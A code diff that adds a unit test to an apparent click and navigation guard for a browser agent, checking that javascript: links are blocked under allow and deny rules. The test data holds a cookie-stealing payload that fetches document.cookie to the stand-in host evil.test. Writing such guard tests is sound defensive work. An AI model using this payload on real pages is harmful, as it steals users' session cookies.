@@ -178,3 +178,12 @@ def test_empty_patterns_are_refused() -> None:
 def test_typing_is_not_navigation() -> None:
     g = guard(DENY)
     assert decision(act(g, "fill", target=field("Search"), value="/profile", url=PAGE)) == "allow"
+
+
+def test_javascript_links_are_on_no_allow_list() -> None:
+    script = link("Open", "javascript:fetch('https://evil.test/?c='+document.cookie)")
+    assert decision(act(guard({"domain_allow": ["app.test"]}), "click", target=script)) == "block"
+    assert decision(act(guard({"url_allow": ["/projects"]}), "click", target=script)) == "block"
+    assert decision(act(guard({"url_deny": ["javascript:"]}), "click", target=script)) == "block"
+    # what the script itself requests is the network layer's to judge, not a destination here
+    assert decision(act(guard({"domain_deny": ["evil.test"]}), "click", target=script)) == "allow"
